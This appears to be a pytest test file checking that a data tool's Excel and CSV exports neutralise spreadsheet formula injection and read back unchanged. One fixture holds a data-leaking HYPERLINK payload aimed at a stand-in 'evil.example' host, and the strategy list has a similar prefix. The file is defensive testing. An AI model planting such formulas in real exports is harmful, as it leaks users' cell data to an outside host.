"""Issue 20: every export writes texts as texts (never formulas) and reads back equal."""

from __future__ import annotations

import csv
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import workbench as wb
from workbench.data.synth import generate
from workbench.files import formula_safe, write_csv, write_excel

BASE = generate(5, seed=4, years=(2025,))

# texts a clerk may type (no line breaks: Excel's XML folds CR LF), with the starts that spreadsheets run
_body = st.text(alphabet=st.characters(whitelist_categories=("L", "N", "P", "S", "Zs"),
                                       blacklist_characters="\r\n\t\x0b\x0c\x85\u2028\u2029"),
                min_size=1, max_size=16).map(str.strip).filter(bool)
risky_text = st.builds(lambda head, body: head + body,
                       st.sampled_from(["=", "+", "-", "@", "'=", "''+", "=HYPERLINK(\"http://x/?\"&A1,", ""]),
                       _body)


def _formulas(path) -> int:
    with zipfile.ZipFile(path) as zf:
        return sum(len(re.findall(rb"<f[ >]", zf.read(n))) for n in zf.namelist() if n.startswith("xl/worksheets/"))


def _with_texts(names: list[str], units: list[str]) -> wb.BranchData:
    members = BASE.members.copy()
    k = len(members)
    members["name"] = [names[i % len(names)] for i in range(k)]
    members["unit"] = [units[i % len(units)] for i in range(k)]
    branches = BASE.branches.copy()
    branches["name"] = [names[-1 - i % len(names)] for i in range(len(branches))]
    return wb.BranchData.from_frames(**{**BASE.tables(), "members": members, "branches": branches})


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(risky_text, min_size=1, max_size=6), units=st.lists(risky_text, min_size=1, max_size=4))
def test_to_excel_and_to_csv_round_trip_without_formulas(tmp_path_factory, names, units):
    data = _with_texts(names, units)
    folder = tmp_path_factory.mktemp("rt")
    book = data.to_excel(folder / "c.xlsx")
    assert _formulas(book) == 0
    assert wb.load(book).equals(data)
    for lang in ("en", "zh"):
        csv_folder = data.to_csv(folder / f"csv_{lang}", lang=lang)
        assert wb.load(csv_folder).equals(data)
    with open(folder / "csv_en" / "members.csv", encoding="utf-8", newline="") as handle:
        for fields in list(csv.reader(handle))[1:]:
            for field in fields:
                assert not field.startswith(("=", "+", "@")), fields


def test_excel_writer_writes_dangerous_texts_as_text(tmp_path):
    frame = pd.DataFrame({"name": ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1", "-2", "@SUM(A1)",
                                   "\tTAB", "plain"],
                          "score": [91.25, 80.0, 70.5, 60.0, 50.0, 40.0],
                          "day": pd.to_datetime(["2025-01-02"] * 6)})
    out = write_excel(tmp_path / "x.xlsx", {"结果": frame}, number_formats={"score": "0.0"})
    assert _formulas(out) == 0
    ws = openpyxl.load_workbook(out)["结果"]
    assert [ws.cell(row=r, column=1).value for r in range(2, 8)] == frame["name"].tolist()
    assert all(ws.cell(row=r, column=1).data_type == "s" for r in range(2, 8))
    assert ws["B2"].number_format == "0.0" and ws["C2"].number_format == "yyyy-mm-dd"
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width > ws.column_dimensions["B"].width


def test_csv_writer_quotes_formula_starts_and_drops_midnight(tmp_path):
    frame = pd.DataFrame({"a": ["=1+1", "+x", "-y", "@z", "'=q", "ok"],
                          "d": pd.to_datetime(["2025-01-02"] * 6)})
    out = write_csv(tmp_path / "x.csv", frame)
    lines = out.read_text(encoding="utf-8-sig").splitlines()
    assert [line.split(",")[0] for line in lines[1:]] == ["'=1+1", "'+x", "'-y", "'@z", "''=q", "ok"]
    assert lines[1].endswith(",2025-01-02")


@pytest.mark.parametrize("value", ["=1+1", "'=1", "''@x", "-", "plain", "+86 138"])
def test_formula_safe_is_undone_by_the_loader(value):
    from workbench.data.readers import QUOTED_FORMULA

    assert QUOTED_FORMULA.sub("", formula_safe(value)) == value
